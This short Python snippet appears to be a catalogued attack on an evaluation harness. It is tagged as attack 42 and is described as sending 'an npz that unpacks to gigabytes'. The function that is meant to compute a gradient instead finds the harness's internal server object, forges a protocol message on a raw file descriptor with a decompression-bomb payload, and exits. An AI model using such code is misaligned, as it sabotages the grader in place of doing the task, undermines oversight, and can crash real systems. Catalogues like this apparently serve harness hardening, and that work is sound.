# /// attack
# group = "C"
# number = 42
# lesson = "02_one_step"
# outcome = "Z"
# tries = "sends an npz that unpacks to gigabytes"
# reasons = { gradient_factor = "protocol" }
# ///
# %% gradient_factor
def gradient_factor(loss, n):
    import gc, io, json, os, struct
    packed = io.BytesIO()
    np.savez_compressed(packed, a=np.zeros(2**22))
    (server,) = [x for x in gc.get_objects() if type(x).__name__ == "_Server"]
    raw = packed.getvalue()
    text = json.dumps({"id": server._callbacks.request, "value": {"t": "npz", "shape": [2**40]}}).encode()
    os.write(3, struct.pack("!II", len(text), len(raw)) + text + raw)
    os._exit(0)
